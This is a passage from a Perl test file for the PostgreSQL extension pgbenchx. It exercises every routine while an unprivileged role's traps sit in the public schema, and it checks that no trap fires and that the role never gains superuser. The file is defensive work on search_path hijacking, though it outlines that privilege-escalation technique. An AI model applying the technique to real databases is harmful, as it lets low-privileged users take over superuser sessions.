	$sql->('txlog', "SELECT pg_catalog.count(*) FROM pgbenchx.client_messages($logged)");
	$sql->('txlog', "CALL pgbenchx.wait($logged)");
	my $sweep = $sql->('sweep', "SELECT run_sweep(1, 2, transactions => 30, script => 'select-only', checkpoint => false)");
	$sql->('sweep', "CALL pgbenchx.wait($sweep)");
	$sql->('scripts', "SELECT pgbenchx.add_script('trapped', E'\\\\set x random(1, 10) * 2 + abs(-1)\\nSELECT :x;\\n')");
	my $list = $sql->('sweep_list', "SELECT run_sweep('{1,2}'::int[], transactions => 30, script => 'tpcb-like\@3, trapped\@1', "
		  . "repeats => 2, checkpoint => false, check_tpcb => false, tags => '{\"pass\": \"$db\"}')");
	$sql->('sweep_list', "CALL pgbenchx.wait($list)");
	my $experiment = $sql->('experiment', "SELECT run_experiment('[{\"name\": \"a\"}, {\"name\": \"b\", "
		  . "\"settings\": {\"work_mem\": \"8MB\"}, \"protocol\": \"prepared\"}]', 1, 1, transactions => 20, "
		  . "repeats => 2, warmup => 1, script => 'select-only', checkpoint => false)");
	$sql->('experiment', "CALL pgbenchx.wait($experiment)");
	$sql->('experiment', "SELECT * FROM pgbenchx.experiment_report($experiment)");
	my $replay = $sql->('replay', "SELECT run_replay(E'SELECT 1;\\nSELECT abalance FROM pgbench_accounts WHERE aid = 1;\\nSELECT 1/0;\\n', 1, 2, checkpoint => false)");
	$sql->('replay', "CALL pgbenchx.wait($replay)");

	# a part: ready, then started by part_go
	my $part = $sql->('part', "SELECT pgbenchx.launch_part('{\"clients\": 2, \"duration\": 1, "
		  . "\"scripts\": [{\"name\": \"s\", \"body\": \"\\\\set x random(1, 10)\\nSELECT :x;\\n\", \"weight\": 1}], "
		  . "\"part_of\": {\"recorder\": \"elsewhere/db\", \"run_id\": 1, \"generator\": 1}}')");
	ok($node->poll_query_until($db,
			"SELECT p.phase OPERATOR(pg_catalog.=) 'ready' FROM pgbenchx.progress_state() p "
			  . "WHERE p.run_id OPERATOR(pg_catalog.=) ${part}::bigint"), "$db: the part is ready");
	$sql->('part', "SELECT pgbenchx.part_go($part, pg_catalog.clock_timestamp() OPERATOR(pg_catalog.+) '0.2 s'::pg_catalog.interval)");
	$sql->('part', "CALL pgbenchx.wait($part)");
	is($node->safe_psql($db, "SELECT status FROM pgbenchx.runs WHERE run_id = $part"), 'completed', "$db: the part completed");

	# a long run: wait until progress shows (wait's 5-second report), then cancel
	# (600 s: the cancel, not the duration, ends it)
	my $long = $sql->('cancel', "SELECT run_bench(1, 600, 'trapped', vacuum => false, checkpoint => false)");
	ok($sampled->($long), "$db: the long run samples");
	$sql->('cancel', "SET statement_timeout = '6s'; CALL pgbenchx.wait($long)", may_fail => 1);
	$sql->('cancel', "SELECT * FROM pgbenchx.progress");
	is($sql->('cancel', "SELECT pgbenchx.cancel($long)"), 't', "$db: cancel signals the long run");
	$sql->('cancel', "CALL pgbenchx.wait($long)");
	ok(nothing_left($node), "$db: nothing left running");

	$sql->('misc', "SELECT * FROM pgbenchx.check_tpcb()");
	$sql->('misc', "SELECT s.library_version FROM pgbenchx.generator_status() s");
	$sql->('misc', "SELECT pgbenchx.eval('abs(-3) + :x * 2 + random(1, 5)', '{\"x\": \"4\"}', 42)");
	$sql->('misc', "SELECT pgbenchx.sweep_ladder(1, 100)");
	$sql->('scripts', "SELECT pgbenchx.script_text('trapped'), pgbenchx.script_text('tpcb')");
	$sql->('scripts', "SELECT * FROM pgbenchx.scripts");
	$sql->('scripts', "SELECT * FROM pgbenchx.builtin_scripts()");
	$sql->('scripts', "SELECT pgbenchx.add_script('trapped', E'SELECT 2;\\n', replace => true)");
	$sql->('scripts', "SELECT pgbenchx.drop_script('trapped')");
	$sql->('environment', "SELECT pgbenchx.capture_environment()");
	$sql->('environment', "SELECT pgbenchx.environment_of($run)");
	$sql->('environment', "SELECT * FROM pgbenchx.env_diff($run, $sweep)");
	$sql->('charts', "SELECT pgbenchx.chart_sweeps('{$sweep,$list}'::bigint[])");
	$sql->('charts', "SELECT pgbenchx.chart_run($run)");
	$sql->('charts', "SELECT pgbenchx.chart_waits($sweep), pgbenchx.chart_wait_color('Lock', 1)");
	$sql->('charts', "SELECT * FROM pgbenchx.sweep_report($list)");
	$sql->('charts', "SELECT pgbenchx.report($run), pgbenchx.report($list), pgbenchx.report($replay)");
	$sql->('charts', "SELECT pgbenchx.xml_escape(E'<a & \"b\">\\x01')");
	$sql->('charts', "SELECT pgbenchx.chart_step(123.5, 6), pgbenchx.chart_number(12345.6, 100000)");
	$sql->('compare', "SELECT * FROM pgbenchx.compare($sweep, $list)");
	$sql->('compare', "SELECT * FROM pgbenchx.sweep_points");
	$sql->('compare', "SELECT * FROM pgbenchx.sweep_summary");
	$sql->('compare', "SELECT pgbenchx.explain_run($run)");
	$sql->('compare', "SELECT * FROM pgbenchx.explain_compare($sweep, $list)");
	$sql->('compare', "SELECT pgbenchx.explain_times(1.8)");
	$sql->('hist', "SELECT pgbenchx.latency_percentile(pgbenchx.latency_merge(r.latency_hist), 99) FROM pgbenchx.runs r");
	$sql->('hist', "SELECT b.* FROM pgbenchx.runs r, pgbenchx.latency_buckets(pgbenchx.latency_merge(r.latency_hist, r.latency_hist)) b");
	$sql->('export', "SELECT pgbenchx.import(pgbenchx.export('{$sweep,$list,$replay}'::bigint[]))");
	$sql->('export', "SELECT * FROM pgbenchx.sweep_summary");
	my %cat = map { $_ => 1 } catalogue($db);
	if ($cat{'compare(bigint[], bigint[])'})
	{
		$sql->('compare', "SELECT * FROM pgbenchx.compare(ARRAY[$sweep, $sweep]::pg_catalog.int8[], ARRAY[$list, $list]::pg_catalog.int8[])");
		$sql->('compare', "SELECT * FROM pgbenchx.ci_log_ratio('{1000,1100,1050,990}'::pg_catalog.float8[], '{900,950,1000,980}'::pg_catalog.float8[], true)");
		$sql->('compare', "SELECT * FROM pgbenchx.ci_log_bounds(0.1::pg_catalog.float8, 0.05::pg_catalog.float8, 3::pg_catalog.float8, 0.05::pg_catalog.float8)");
		$sql->('compare', "SELECT pgbenchx.ci_holm('{0.01,0.04,0.2}'::pg_catalog.float8[], 0.05::pg_catalog.float8)");
	}
	if ($cat{'chart_runs(bigint[], integer)'})
	{
		$sql->('charts', "SELECT pgbenchx.chart_runs(ARRAY[$run]::pg_catalog.int8[], 2)");
		$sql->('charts', "SELECT pg_catalog.count(*) FROM pgbenchx.run_intervals($run, 2)");
	}
	if ($cat{'gather(text)'})
	{
		my $loose = $sql->('gather', "SELECT run_bench(1, transactions => 10, script => 'select-only', label => 'loose $db', checkpoint => false)");
		$sql->('gather', "CALL pgbenchx.wait($loose)");
		$sql->('gather', "SELECT pgbenchx.gather('loose $db')");
	}
	$sql->('grants', "SELECT pgbenchx.session_secret()") if $cat{'session_secret()'};
	$sql->('cancel', "SELECT pgbenchx.coordinator_alive($long), pgbenchx.coordinator_alive(NULL)")
	  if $cat{'coordinator_alive(integer)'};
	$sql->('grants', "SELECT pg_catalog.count(*) FROM pgbenchx.name_collisions()") if $cat{'name_collisions(oid[])'};
	if ($cat{'grant_runner(regrole)'})
	{
		# grant_runner refuses a runner that may create in public (test/t/073)
		$sql->('grants', "SELECT pgbenchx.revoke_runner('runner'); REVOKE CREATE ON SCHEMA public FROM runner");
		$sql->('grants', "SELECT pgbenchx.grant_runner('runner'); GRANT CREATE ON SCHEMA public TO runner");
	}

	# every entry point of the catalogue was used
	my @missing = grep { !exists $covers{$_} || !$done{ $covers{$_} } } sort keys %cat;
	is(join("\n", @missing), '', "$db: every routine and view of the extension was exercised");
	is(join("\n", grep { !$cat{$_} && !$optional{$_} } sort keys %covers), '',
		"$db: the map names no routine the extension lacks");
}

# Every SQL and PL/pgSQL routine of the extension is pinned, but check_tpcb,
# which must find the pgbench tables through the caller's search_path (and so
# qualifies every function, operator and type instead).
sub unpinned
{
	my ($db) = @_;
	return $node->safe_psql($db, q{
		SELECT pg_catalog.string_agg(p.oid::pg_catalog.regprocedure::pg_catalog.text, ', ')
		FROM pg_catalog.pg_depend d
		JOIN pg_catalog.pg_proc p ON p.oid OPERATOR(pg_catalog.=) d.objid
		JOIN pg_catalog.pg_language l ON l.oid OPERATOR(pg_catalog.=) p.prolang
		WHERE d.classid OPERATOR(pg_catalog.=) 'pg_catalog.pg_proc'::pg_catalog.regclass
		  AND d.refobjid OPERATOR(pg_catalog.=) (SELECT e.oid FROM pg_catalog.pg_extension e
		                                          WHERE e.extname OPERATOR(pg_catalog.=) 'pgbenchx'::pg_catalog.name)
		  AND d.deptype OPERATOR(pg_catalog.=) 'e'::pg_catalog."char"
		  AND l.lanname OPERATOR(pg_catalog.<>) 'c'::pg_catalog.name
		  AND p.prokind OPERATOR(pg_catalog.<>) 'a'::pg_catalog."char"  -- an aggregate runs its functions, pinned or C
		  AND p.proname OPERATOR(pg_catalog.<>) 'check_tpcb'::pg_catalog.name
		  AND NOT coalesce(p.proconfig OPERATOR(pg_catalog.@>) '{"search_path=pg_catalog, pg_temp"}'::pg_catalog.text[], false)});
}

# --- pass "early": traps first, then CREATE EXTENSION; default search_path -------
$node->safe_psql('early', 'GRANT CREATE ON SCHEMA public TO runner');
plant('early');
positive_control('early');
$node->safe_psql('early', 'CREATE EXTENSION pgbenchx');
grant_runner('early');
is(unpinned('early'), '', 'every SQL and PL/pgSQL routine but check_tpcb carries SET search_path = pg_catalog, pg_temp');
is(traces('early'), '', 'early: CREATE EXTENSION over the traps fires none');
exercise('early', undef, '1');
is(traces('early'), '', 'early: no trap fired: runner gained nothing (default search_path, views bound over the traps)');

# --- pass "late": CREATE EXTENSION, then the traps; public before pg_catalog ---------
$node->safe_psql('late', 'CREATE EXTENSION pgbenchx');
grant_runner('late');
plant('late');
positive_control('late');
exercise('late', 'public, pg_catalog', "1, partitions => 2, partition_method => 'hash', foreign_keys => true");
is(traces('late'), '', 'late: no trap fired: runner gained nothing (search_path = public, pg_catalog)');

# The loopback connections (the pre-run vacuum, truncate and checkpoint, the
# counters, the branch count, check_tpcb's sums) log in with the role's own
# settings, and so does the coordinator: give the superuser public, pg_catalog
# there too (the coordinator must override it).  The benchmark
# clients log in the same way and run the user's workload as the user, as
# pgbench would: the two exact operators tpcb-like itself uses, + and = on
# int4, are taken away for this run so that only pgbenchx's own SQL is judged.
$node->safe_psql('late', qq{
	ALTER ROLE "$su" IN DATABASE late SET search_path = public, pg_catalog;
	DROP OPERATOR public.+ (int4, int4);
	DROP OPERATOR public.= (int4, int4);
});
reset_traces('late');
my $path = $node->safe_psql('late', 'SHOW search_path');
is($path, 'public, pg_catalog', 'late: the superuser\'s sessions and loopback logins now have public first');
# With runner's CREATE on public, searched before pg_catalog, whatever it
# created there later would be found first by the clients: pgbenchx refuses
# the run (trust.c; test/t/055).  Its CREATE is taken away for this run,
# its traps stay in public.
my ($ret, $out, $err) = $node->psql('late', "SELECT run_bench(2, 1, 'tpcb-like', check_tpcb => true)");
like($err, qr/refusing to resolve names through schema public, in which role "runner" may create objects/,
	'late: a run whose clients search public, where runner may create, before pg_catalog is refused');
$node->safe_psql('late', 'REVOKE CREATE ON SCHEMA public FROM runner');
my $run = $node->safe_psql('late', "SELECT run_bench(2, 1, 'tpcb-like', check_tpcb => true)");
$node->safe_psql('late', "SET client_min_messages = warning; CALL pgbenchx.wait($run)");
$node->safe_psql('late', 'GRANT CREATE ON SCHEMA public TO runner');
is($node->safe_psql('late', "SELECT r.status OPERATOR(pg_catalog.||) ' ' OPERATOR(pg_catalog.||) r.tpcb_consistent::pg_catalog.text "
	  . "FROM pgbenchx.runs r WHERE r.run_id OPERATOR(pg_catalog.=) ${run}::pg_catalog.int8"),
	'completed true', 'late: a run with vacuum, checkpoint and check_tpcb completes');
is(traces('late'), '', 'late: no trap fired in the coordinator (its role setting), the loopback maintenance and checks under public, pg_catalog');
$node->safe_psql('late', qq{ALTER ROLE "$su" IN DATABASE late RESET search_path});

# and the traps are still armed at the end
positive_control('late');
is($node->safe_psql('postgres', "SELECT rolsuper FROM pg_roles WHERE rolname = 'runner'"), 'f',
	'runner is no superuser at the end');

$node->stop;
done_testing();
